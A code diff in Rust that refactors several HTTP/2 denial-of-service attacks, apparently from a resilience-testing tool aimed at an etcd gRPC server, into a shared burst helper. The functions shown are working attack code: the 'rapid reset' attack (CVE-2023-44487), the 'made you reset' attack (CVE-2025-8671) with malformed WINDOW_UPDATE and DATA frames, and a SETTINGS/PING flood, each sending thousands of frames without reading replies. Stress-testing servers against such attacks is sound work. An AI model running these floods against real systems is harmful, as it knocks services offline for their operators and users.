@@ -74,6 +74,18 @@ fn again(target: &Target, mut act: impl FnMut() -> io::Result<u64>) -> Done {
     done
 }
 
+/// On one connection after the other, 10,000 times without reading, unless the server ends it before.
+fn bursts(target: &Target, mut act: impl FnMut(&mut Http2)) -> Done {
+    again(target, || {
+        let mut http2 = Http2::connect(target.plain)?;
+        let mut burst = || {
+            (0..100).for_each(|_| act(&mut http2));
+            http2.flush().is_ok()
+        };
+        Ok((0..100).take_while(|_| burst()).map(|_| 100).sum())
+    })
+}
+
 /// Many at once, each given a turn again and again until the time is up, and replaced where it is gone.
 fn crowd<T>(
     target: &Target,
@@ -148,45 +160,27 @@ const WATCH: &str = "/etcdserverpb.Watch/Watch";
 
 /// The attack that is called "rapid reset" (CVE-2023-44487).
 fn rapid_reset(target: &Target, _: &mut SplitMix64) -> Done {
-    again(target, || {
-        let mut http2 = Http2::connect(target.plain)?;
-        let mut done = 0;
-        for _ in 0..64 {
-            for _ in 0..100 {
-                let stream = http2.ask(RANGE, target.token.as_deref(), &own_keys());
-                http2.frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
-            }
-            http2.flush()?;
-            done += 100;
-        }
-        Ok(done)
+    bursts(target, |http2| {
+        let stream = http2.ask(RANGE, target.token.as_deref(), &own_keys());
+        http2.frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
     })
 }
 
 /// The attack that is called "made you reset" (CVE-2025-8671): each call is broken by a frame that makes the server reset
 /// it, and what the server says to that is not read.
 fn made_to_reset(target: &Target, random: &mut SplitMix64) -> Done {
-    again(target, || {
-        let mut http2 = Http2::connect(target.plain)?;
-        let mut done = 0;
-        for _ in 0..64 {
-            for _ in 0..100 {
-                let stream = http2.call(WATCH, target.token.as_deref(), 0);
-                match below(random, 3) {
-                    // A window that grows by nothing, or beyond all bounds.
-                    0 => http2.frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
-                    1 => http2.frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
-                    // More of a request that is over.
-                    _ => {
-                        http2.frame(DATA, END_STREAM, stream, &grpc(b""));
-                        http2.frame(DATA, END_STREAM, stream, &grpc(b""));
-                    }
-                }
+    bursts(target, |http2| {
+        let stream = http2.call(WATCH, target.token.as_deref(), 0);
+        match below(random, 3) {
+            // A window that grows by nothing, or beyond all bounds.
+            0 => http2.frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
+            1 => http2.frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
+            // More of a request that is over.
+            _ => {
+                http2.frame(DATA, END_STREAM, stream, &grpc(b""));
+                http2.frame(DATA, END_STREAM, stream, &grpc(b""));
             }
-            http2.flush()?;
-            done += 100;
         }
-        Ok(done)
     })
 }
 
@@ -228,22 +222,11 @@ fn unfolding_headers(target: &Target, _: &mut SplitMix64) -> Done {
 }
 
 fn settings_and_pings(target: &Target, random: &mut SplitMix64) -> Done {
-    again(target, || {
-        let mut http2 = Http2::connect(target.plain)?;
-        let mut done = 0;
-        for _ in 0..50 {
-            for _ in 0..200 {
-                match below(random, 4) {
-                    0 => http2.frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
-                    1 => http2.frame(PING, 0, 0, &[7; 8]),
-                    2 => http2.frame(SETTINGS, ACK, 0, &[]),
-                    _ => http2.frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
-                }
-                done += 1;
-            }
-            http2.flush()?;
-        }
-        Ok(done)
+    bursts(target, |http2| match below(random, 4) {
+        0 => http2.frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
+        1 => http2.frame(PING, 0, 0, &[7; 8]),
+        2 => http2.frame(SETTINGS, ACK, 0, &[]),
+        _ => http2.frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
     })
 }
 
